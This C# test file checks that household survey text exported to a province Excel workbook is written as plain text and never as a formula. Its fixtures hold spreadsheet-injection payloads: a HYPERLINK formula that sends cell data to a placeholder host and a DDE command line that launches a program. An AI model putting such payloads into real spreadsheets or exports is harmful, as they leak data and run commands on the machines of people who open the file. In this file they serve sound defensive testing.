using System.IO.Compression;
using System.Runtime.CompilerServices;
using ClosedXML.Excel;
using GiamNgheo.Pipeline.Exports;
using GiamNgheo.Pipeline.Households;
using GiamNgheo.Pipeline.Privacy;
using GiamNgheo.Pipeline.Summaries;
using GiamNgheo.Rules.AdminUnits;
using GiamNgheo.Rules.Standards;

namespace GiamNgheo.Pipeline.Tests;

/// <summary>Text from an uploaded survey reaches the province workbook as text: Excel shows it, never runs it.</summary>
public class ProvinceWorkbookTextTests
{
    private static readonly HouseholdPseudonymiser Pseudonymiser = new(PseudonymKey.Generate());

    private const string Hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm vào đây\")";

    [Fact]
    public async Task Survey_text_that_looks_like_a_formula_is_written_as_an_inline_string_and_the_code_only_as_its_pseudonym()
    {
        var bytes = await WriteAsync(new HouseholdRecord
        {
            HouseholdId = Hyperlink,
            Village = "+cmd|' /C calc'!A0",
            Class = "ngheo",
            Standard = "nd-07-2021",
            Area = "nong_thon",
            Persons = 3,
            IncomeTest = "thu_nhap",
            IncomeValue = -5,
            Explanation = "@SUM(A1:A9)",
        });

        using (var zip = new ZipArchive(new MemoryStream(bytes)))
        {
            foreach (var part in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
            {
                using var reader = new StreamReader(part.Open());
                var xml = await reader.ReadToEndAsync();
                Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
                Assert.DoesNotContain("<f ", xml, StringComparison.Ordinal);
            }
        }

        using var book = new XLWorkbook(new MemoryStream(bytes));
        var table = book.Worksheet("ho_gia_dinh").Table("HoGiaDinh");
        var row = table.DataRange.FirstRow();
        var code = row.Field("ma_ho_an_danh");
        Assert.False(code.HasFormula);
        Assert.Equal(Pseudonymiser.Pseudonymise("00004", Hyperlink), code.GetString());
        Assert.Equal("+cmd|' /C calc'!A0", row.Field("thon").GetString());
        Assert.False(row.Field("giai_thich").HasFormula);
        Assert.Equal(-5, row.Field("gia_tri_kiem_dinh").GetDouble());
    }

    private static async Task<byte[]> WriteAsync(HouseholdRecord household)
    {
        var summary = new UnitSummary(2025, UnitLevel.Commune, "00004", "01") { SubmissionId = "2025-00004-abc" };
        var commune = ExportCommune.From(summary, StandardCatalog.Default.Indicators);
        var manifest = new ExportManifest(2025, "01", [commune], Pseudonymiser.KeyId);
        using var output = new MemoryStream();
        await new ProvinceWorkbook(AdminUnitCatalog.Default, StandardCatalog.Default, Pseudonymiser).WriteAsync(output, manifest, _ => One(household), CancellationToken.None);
        return output.ToArray();
    }

    private static async IAsyncEnumerable<HouseholdRecord> One(HouseholdRecord household, [EnumeratorCancellation] CancellationToken cancellationToken = default)
    {
        await Task.Yield();
        cancellationToken.ThrowIfCancellationRequested();
        yield return household;
    }
}
